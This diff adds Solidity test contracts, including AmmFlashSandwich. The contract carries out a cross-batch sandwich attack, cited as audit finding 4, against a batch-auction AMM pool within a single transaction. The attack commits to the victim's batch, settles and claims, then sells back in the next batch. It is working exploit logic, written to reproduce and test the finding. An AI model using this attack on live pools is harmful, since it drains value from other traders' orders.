@@ -73,3 +73,66 @@ contract AmmTraderFactory {
         }
     }
 }
+
+/// @notice The part of {BatchAuctionAMM} the flash attacker calls.
+interface IAmmBatchPool {
+    function currentBatch() external view returns (uint256);
+    function commitSwap(bool zeroForOne, uint256 amountIn, uint256 minAmountOut) external returns (uint256 batch);
+    function settle(uint256 batch, address[] calldata swappers, address[] calldata providers) external;
+    function claim() external returns (uint256 amount);
+}
+
+/// @title AmmFlashSandwich
+/// @author hardhat-parallel
+/// @notice TEST CONTRACT. The cross-batch sandwich (audit finding 4) inside ONE transaction, as a
+///         flash-style attacker would run it on a pool without a minimum batch duration: join
+///         the victim's batch in its direction, settle it, claim, sell everything back in the
+///         next batch, settle that one too, claim. Never deploy it anywhere that matters.
+/// @dev No storage. The tokens must be funded to this contract before {attack}.
+contract AmmFlashSandwich {
+    /// @notice Runs the sandwich against `victim`'s pending order (it must be the batch's only other request).
+    /// @param pool The pool.
+    /// @param token0 The pool's token0 (sold first).
+    /// @param token1 The pool's token1.
+    /// @param victim The account whose order is pending in the open batch.
+    /// @param amountIn The token0 the attack sells.
+    /// @return got0 The token0 this contract holds at the end.
+    /// @return got1 The token1 this contract holds at the end.
+    function attack(IAmmBatchPool pool, address token0, address token1, address victim, uint256 amountIn)
+        external
+        returns (uint256 got0, uint256 got1)
+    {
+        _approve(token0, address(pool));
+        _approve(token1, address(pool));
+        uint256 batch = pool.currentBatch();
+        pool.commitSwap(true, amountIn, 0);
+        address[] memory both = new address[](2);
+        (both[0], both[1]) = victim < address(this) ? (victim, address(this)) : (address(this), victim);
+        pool.settle(batch, both, new address[](0));
+        pool.claim();
+        // Filled: sell back the token1 received (refunded: nothing to sell back).
+        uint256 out = _balanceOf(token1);
+        address[] memory alone = new address[](1);
+        alone[0] = address(this);
+        if (out != 0) {
+            pool.commitSwap(false, out, 0);
+            pool.settle(batch + 1, alone, new address[](0));
+            pool.claim();
+        }
+        got0 = _balanceOf(token0);
+        got1 = _balanceOf(token1);
+    }
+
+    /// @dev Approves `spender` for all of `token`.
+    function _approve(address token, address spender) private {
+        (bool ok,) = token.call(abi.encodeWithSignature("approve(address,uint256)", spender, type(uint256).max));
+        require(ok, "approve");
+    }
+
+    /// @dev This contract's balance of `token`.
+    function _balanceOf(address token) private view returns (uint256) {
+        (bool ok, bytes memory ret) = token.staticcall(abi.encodeWithSignature("balanceOf(address)", address(this)));
+        require(ok && ret.length == 32, "balanceOf");
+        return abi.decode(ret, (uint256));
+    }
+}
